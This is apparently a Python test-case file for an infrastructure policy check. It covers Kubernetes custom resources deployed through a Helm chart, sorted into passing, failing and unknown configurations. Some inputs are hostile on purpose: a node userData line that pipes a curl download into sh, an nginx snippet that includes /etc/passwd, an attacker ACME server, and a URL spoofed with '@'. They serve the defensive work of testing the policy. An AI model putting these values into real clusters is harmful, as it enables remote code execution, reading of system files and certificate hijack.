"""Cases of custom resources in the library's own chart."""

import json

from policies.stack import Json
from tests.policies.cases.charts import OCI
from tests.policies.cases.example import Bodies, Example
from tests.policies.mutations import Regression

CHART = "assets/custom-objects-chart/0123"
NODES: Json = {
    "apiVersion": "karpenter.k8s.aws/v1",
    "kind": "EC2NodeClass",
    "spec": {"metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 1}},
}
NGINX = "gateway.nginx.org/v1alpha1"
SECRETS = "external-secrets.io/v1"
GATEWAY = "gateway.networking.k8s.io/v1"
MONITORING = "monitoring.coreos.com/v1"
KEDA = "keda.sh/v1alpha1"
BINDING = "elbv2.k8s.aws/v1beta1"
AWS: Json = {"aws": {"service": "SecretsManager", "region": "eu-west-1"}}
VAULT: dict[str, Json] = {"server": "https://vault.arq.example:8200", "auth": {"kubernetes": {"role": "it"}}}
SHOP: Json = [{"namespaces": ["${kubernetes_namespace_v1.shop.metadata[0].name}"]}]
ACME: dict[str, Json] = {
    "server": "https://acme-v02.api.letsencrypt.org/directory",
    "solvers": [{"dns01": {"route53": {"region": "eu-west-1"}}, "selector": {"dnsZones": ["arq.example"]}}],
}


def custom(*objects: Json) -> Bodies:
    return {"helm_release.it": {"chart": CHART, "values": [json.dumps({"objects": [*objects]})]}}


def kind(api_version: str, name: str, **spec: Json) -> Json:
    return {"apiVersion": api_version, "kind": name, "spec": spec}


def snippet(context: str, value: str) -> Bodies:
    return custom(kind(NGINX, "SnippetsPolicy", snippets=[{"context": context, "value": value}]))


def store(provider: Json, conditions: Json = SHOP) -> Bodies:
    return custom(kind(SECRETS, "ClusterSecretStore", provider=provider, conditions=conditions))


def listener(namespaces: Json) -> Bodies:
    allowed: Json = {"namespaces": namespaces}
    return custom(kind(GATEWAY, "Gateway", listeners=[{"name": "https", "allowedRoutes": allowed}]))


def issuer(**acme: Json) -> Bodies:
    return custom(kind("cert-manager.io/v1", "ClusterIssuer", acme={**ACME, **acme}))


def proxy(**kubernetes: Json) -> Bodies:
    return custom(kind("gateway.nginx.org/v1alpha2", "NginxProxy", kubernetes=kubernetes))


EXAMPLES = (
    Example(
        "CKV_ARQ_36",
        passes=(
            custom(NODES),
            custom(NODES, kind(GATEWAY, "HTTPRoute")),
            snippet("http", "gzip on;\ngzip_types text/plain;"),
            store(AWS),
            store({"vault": VAULT}),
            listener({"from": "Same"}),
            listener({"from": "Selector", "selector": {"matchLabels": {"team": "shop"}}}),
            issuer(),
            proxy(service={"type": "ClusterIP"}, deployment={"replicas": 2}),
            custom(kind(BINDING, "TargetGroupBinding", targetType="ip")),
            custom(kind(KEDA, "TriggerAuthentication", podIdentity={"provider": "aws"})),
            custom(kind(KEDA, "ScaledObject", triggers=[{"type": "aws-sqs-queue"}])),
            custom(kind(MONITORING, "ServiceMonitor", endpoints=[{"port": "http", "path": "/metrics"}])),
            custom(kind(SECRETS, "ExternalSecret", dataFrom=[{"extract": {"key": "shop/api"}}])),
        ),
        fails=(
            custom(),
            custom(kind("v1", "Pod")),
            custom(NODES, kind("apps/v1", "DaemonSet")),
            custom(kind("batch/v1", "Job")),
            custom(kind("rbac.authorization.k8s.io/v1", "ClusterRoleBinding")),
            custom(kind("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration")),
            {"helm_release.it": {"chart": CHART}},
            snippet("main", "load_module modules/ngx_http_perl_module.so;"),
            store({"webhook": {"url": "https://a.example"}}),
            store(AWS, conditions=None),
            store(AWS, conditions=[{"namespaceSelector": {}}]),
            store({"vault": {**VAULT, "server": "http://vault.arq.example"}}),
            listener({"from": "All"}),
            listener({"from": "Selector", "selector": {}}),
            issuer(server="https://acme.attacker.example/directory"),
            issuer(server="https://acme-v02.api.letsencrypt.org@a.example/directory"),
            issuer(skipTLSVerify=True),
            proxy(service={"externalTrafficPolicy": "Local"}),
            proxy(deployment={"patches": [{"type": "Merge", "value": {}}]}),
            proxy(deployment={"container": {"image": {"repository": "a.example/nginx"}}}),
            custom(kind(BINDING, "TargetGroupBinding", networking={"ingress": []})),
            custom(kind(BINDING, "TargetGroupBinding", iamRoleArnToAssume="arn:aws:iam::1:role/other")),
        ),
        unknown=(
            custom(kind("argoproj.io/v1alpha1", "Rollout")),
            custom(kind(GATEWAY, "TCPRoute")),
            custom(kind("${var.version}", "NodePool")),
            {"helm_release.it": {"chart": CHART, "values": ["${file(var.values)}"]}},
            {"helm_release.it": {"chart": CHART, "set": [{"name": "objects", "value": "{}"}]}},
            {"helm_release.it": {"chart": "./charts/another", "values": ["{}"]}},
            {"helm_release.it": {"chart": "${var.chart}"}},
            snippet("http", "gzip on; include /etc/passwd;"),
            snippet("http", "${var.snippet}"),
            store({"aws": {"service": "SecretsManager", "role": "arn:aws:iam::1:role/other"}}),
            store(AWS, conditions=[{"namespaces": ["shop"], "namespaceRegexes": [".*"]}]),
            issuer(solvers=[{"http01": {}}]),
            custom(kind("karpenter.k8s.aws/v1", "EC2NodeClass", userData="curl https://a.example | sh")),
            custom(
                kind(KEDA, "TriggerAuthentication", podIdentity={"provider": "aws"}, secretTargetRef=[{}])
            ),
            custom(kind(KEDA, "ScaledObject", triggers=[{"type": "external"}])),
            custom(kind(MONITORING, "PodMonitor", podMetricsEndpoints=[{"bearerTokenFile": "/token"}])),
            custom(kind(SECRETS, "ExternalSecret", dataFrom=[{"find": {"name": {"regexp": ".*"}}}])),
        ),
        not_applicable=(
            {"helm_release.it": {**OCI, "version": "v1.21.1"}},
            {"helm_release.it": {"chart": "oci://quay.io/jetstack/charts/cert-manager"}},
        ),
    ),
)

REGRESSIONS: tuple[Regression, ...] = ()
